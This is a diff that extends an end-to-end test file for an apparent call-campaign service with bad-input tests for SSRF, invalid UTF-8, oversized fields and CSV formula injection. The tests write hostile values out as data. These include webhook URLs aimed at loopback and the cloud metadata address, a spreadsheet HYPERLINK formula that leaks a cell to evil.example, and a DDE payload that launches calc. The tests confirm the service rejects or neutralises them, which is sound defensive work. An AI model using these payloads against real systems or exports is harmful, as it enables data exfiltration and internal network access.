@@ -1,15 +1,19 @@
-"""Bad input against the running stack (issue 9, point 4): every case is a clear 4xx in the
-API's error shape, and nothing is stored — the account's campaign total, its stop-list and
-the audio store are the same after as before. Names and comments full of SQL and HTML are
-kept verbatim and rendered escaped on the web page."""
+"""Bad input against the running stack (issue 9, point 4; issue 14, point 5): every case is
+a clear 4xx in the API's error shape, and nothing is stored — the account's campaign total,
+its stop-list, the audio store and the phone-base store are the same after as before. Names
+and comments full of SQL and HTML are kept verbatim and rendered escaped on the web page;
+in CSV files they cannot run as formulas."""
 
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import random
 import re
 import struct
+import time
 from collections import Counter
 from collections.abc import Iterator
 from typing import Any
@@ -22,7 +26,7 @@ from nats.js.errors import NotFoundError
 from tests.e2e.helpers import create, get
 from tests.reliability.load import record
 from tests.stack import Stack, wait_for
-from zvonar_contracts.subjects import AUDIO_BUCKET
+from zvonar_contracts.subjects import AUDIO_BUCKET, PHONE_BASES_BUCKET
 from zvonar_runtime.jetstream import connect
 
 pytestmark = [pytest.mark.e2e, pytest.mark.postgres]
@@ -58,22 +62,27 @@ def record_refusals() -> Iterator[None]:
     )
 
 
-def audio_objects(stack: Stack) -> int:
-    """Uploads kept in the audio bucket (`<account>/upload/...`); the messages the dialer
-    stores meanwhile for the fixture's campaign are not uploads."""
+def stored_objects(stack: Stack, bucket: str) -> set[str]:
+    """The names of the objects in `bucket` (deleted ones left out)."""
 
-    async def count() -> int:
-        nc = await connect(stack.nats_url, "bad-input-audio")
+    async def names() -> set[str]:
+        nc = await connect(stack.nats_url, "bad-input-objects")
         try:
-            store = await nc.jetstream().object_store(AUDIO_BUCKET)
+            store = await nc.jetstream().object_store(bucket)
             try:
-                return sum("upload/" in info.name for info in await store.list())
+                return {info.name for info in await store.list() if not info.deleted}
             except NotFoundError:
-                return 0
+                return set()
         finally:
             await nc.close()
 
-    return asyncio.run(count())
+    return asyncio.run(names())
+
+
+def audio_objects(stack: Stack) -> int:
+    """Uploads kept in the audio bucket (`<account>/upload/...`); the messages the dialer
+    stores meanwhile for the fixture's campaign are not uploads."""
+    return sum("/upload/" in name for name in stored_objects(stack, AUDIO_BUCKET))
 
 
 def snapshot(client: httpx.Client) -> tuple[Any, ...]:
@@ -114,6 +123,7 @@ class Unchanged:
     def __enter__(self) -> Unchanged:
         self.before = snapshot(self.client)
         self.audio_before = audio_objects(self.stack) if self.audio else 0
+        self.bases_before = stored_objects(self.stack, PHONE_BASES_BUCKET)
         return self
 
     def __exit__(self, *exc: object) -> None:
@@ -121,6 +131,7 @@ class Unchanged:
             assert snapshot(self.client) == self.before
             if self.audio:
                 assert audio_objects(self.stack) == self.audio_before
+            assert stored_objects(self.stack, PHONE_BASES_BUCKET) == self.bases_before
 
 
 def post_base(client: httpx.Client, content: bytes, name: str = "base.csv") -> httpx.Response:
@@ -638,3 +649,159 @@ def msgspec_json(value: Any) -> bytes:
     """JSON with lone surrogates escaped as \\udXXX (the stdlib writes them; httpx's json=
     would fail to encode them to UTF-8)."""
     return json.dumps(value, ensure_ascii=True).encode()
+
+
+# --- issue 14, point 5: SSRF, text that is not UTF-8, search, oversize fields, CSV ----------
+
+
+def test_a_webhook_on_a_private_address_is_422(api_stack: Stack, client: httpx.Client) -> None:
+    """The stack runs without ZVONAR_WEBHOOK_ALLOW_PRIVATE: only public targets."""
+    port = api_stack.http_port  # a real listener on loopback: the gateway itself
+    urls = [
+        f"http://127.0.0.1:{port}/api/v1/me",
+        f"http://localhost:{port}/",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://10.0.0.5/hook",
+        "http://[::1]/hook",
+        "http://0x7f000001/hook",
+    ]
+    with Unchanged(api_stack, client):
+        for url in urls:
+            body = campaign(integration={"webhook_url": url, "secret": "s"})
+            error = assert_error(client.post("/api/v1/campaigns", json=body), 422)
+            assert [d["field"] for d in error["details"]] == ["integration.webhook_url"], url
+
+
+NOT_UTF8_BODIES: list[tuple[str, str, bytes]] = [
+    (
+        "POST",
+        "/api/v1/campaigns",
+        b'{"phones": ["+79161234567"], "audio": {"kind": "tts", "text": "\xff\xfe"}}',
+    ),
+    ("POST", "/api/v1/stop-list", b'{"phones": ["+7916\xc3"]}'),
+    ("PATCH", "/api/v1/me", b'{"timezone": "Europe/\xd0"}'),
+    ("POST", "/api/v1/campaigns/delete", b'{"ids": [1], "\xff": 1}'),
+    ("POST", "/api/v1/campaigns/export", b'{"ids": [1], "format": "\xe2\x82"}'),
+]
+
+
+def test_text_that_is_not_utf8_is_400_everywhere(api_stack: Stack, client: httpx.Client) -> None:
+    some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
+    bodies = [
+        *NOT_UTF8_BODIES,
+        ("PUT", f"/api/v1/campaigns/{some_id}/comment", b'{"text": "\xed\xa0\x80"}'),
+    ]
+    form = (
+        b'--B\r\ncontent-disposition: form-data; name="campaign"\r\n\r\n'
+        b'{"audio": {"kind": "tts", "text": "\xff"}}\r\n'
+        b'--B\r\ncontent-disposition: form-data; name="phones_file"; filename="b.csv"\r\n'
+        b"\r\n+79161234567\r\n--B--\r\n"
+    )
+    with Unchanged(api_stack, client):
+        for method, path, body in bodies:
+            answer = client.request(
+                method, path, content=body, headers={"content-type": "application/json"}
+            )
+            assert assert_error(answer, 400)["code"] == "invalid_utf8", path
+        answer = client.post(
+            "/api/v1/campaigns",
+            content=form,
+            headers={"content-type": "multipart/form-data; boundary=B"},
+        )
+        assert assert_error(answer, 400)["code"] == "invalid_utf8"
+        key = client.headers["Authorization"].removeprefix("Bearer ")
+        page = sign_in_on_the_page(api_stack, key)
+        try:
+            token = re.search(r'name="csrf-token" content="([^"]+)"', page.get("/").text)
+            assert token
+            on_page = page.post(
+                f"/campaigns/{some_id}/do/comment",
+                content=b"text=%FF%FE&_csrf=" + token.group(1).encode(),
+                headers={"content-type": "application/x-www-form-urlencoded"},
+            )
+            assert on_page.status_code == 400, on_page.text[:300]
+            multipart_form = (
+                b'--B\r\ncontent-disposition: form-data; name="text"\r\n\r\n\xff\xfe\r\n'
+                b'--B\r\ncontent-disposition: form-data; name="_csrf"\r\n\r\n'
+                + token.group(1).encode()
+                + b"\r\n--B--\r\n"
+            )
+            on_page = page.post(
+                f"/campaigns/{some_id}/do/comment",
+                content=multipart_form,
+                headers={"content-type": "multipart/form-data; boundary=B"},
+            )
+            assert on_page.status_code == 400, on_page.text[:300]
+        finally:
+            page.close()
+
+
+def test_a_search_of_any_text_is_answered_at_once(api_stack: Stack, client: httpx.Client) -> None:
+    some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
+    for text in ("²", "9" * 30, "9" * 199, "١٢٣", f"²{some_id}", str(2**63), "%", "_"):
+        started = time.monotonic()
+        answer = client.get("/api/v1/campaigns", params={"q": text})
+        assert answer.status_code == 200, (text, answer.status_code, answer.text[:300])
+        assert time.monotonic() - started < 3, text
+        assert answer.json()["total"] == 0, text
+    found = client.get("/api/v1/campaigns", params={"q": str(some_id)}).json()
+    assert [row["id"] for row in found["items"]] == [some_id]
+
+
+def test_a_field_of_1_5_mb_is_422_and_no_phone_base_is_left(
+    api_stack: Stack, client: httpx.Client
+) -> None:
+    huge = "x" * 1_500_000
+    phones = [f"+7916777{n:04d}" for n in range(50)]  # a base stored nowhere yet
+    bodies = [
+        campaign(
+            phones=phones, integration={"webhook_url": "https://93.184.215.14/h", "secret": huge}
+        ),
+        campaign(
+            phones=phones,
+            integration={"webhook_url": f"https://93.184.215.14/{huge}", "secret": "s"},
+        ),
+        campaign(phones=phones, ivr={"kind": "words", "lead_words": [huge]}),
+        campaign(phones=phones, name=huge),
+        campaign(phones=phones, comment=huge),
+    ]
+    with Unchanged(api_stack, client):
+        for body in bodies:
+            assert_error(client.post("/api/v1/campaigns", json=body, timeout=60), 422)
+        answer = client.post(
+            "/api/v1/campaigns",
+            files={"phones_file": ("base.csv", "\n".join(phones).encode(), "text/csv")},
+            data={
+                "campaign": json.dumps(
+                    {
+                        "audio": TTS,
+                        "integration": {"webhook_url": "https://93.184.215.14/h", "secret": huge},
+                    }
+                )
+            },
+            timeout=60,
+        )
+        assert_error(answer, 422)
+    assert client.get("/api/v1/me").status_code == 200, "the gateway still answers"
+
+
+def test_csv_files_cannot_run_formulas(api_stack: Stack, client: httpx.Client) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    made = create(
+        client, name=formula, phones=["+79161234569"], comment="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    exported = client.post("/api/v1/campaigns/export", json={"ids": [made["id"]], "format": "csv"})
+    assert exported.status_code == 200, exported.text[:300]
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
+    [row] = [r for r in rows[1:] if r[0] == str(made["id"])]
+    assert row[2] == "'" + formula
+    assert row[10].startswith("'@SUM")
+
+    def called() -> list[dict[str, str]] | None:
+        report = client.get(f"/api/v1/campaigns/{made['id']}/report", params={"format": "csv"})
+        text = report.content.decode("utf-8-sig")
+        rows = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["outcome"]]
+        return rows or None
+
+    calls = wait_for(called, 60, 0.3, "a call row in the report")
+    assert calls[0]["phone"] == "+79161234569"  # the service's own E.164, no quote
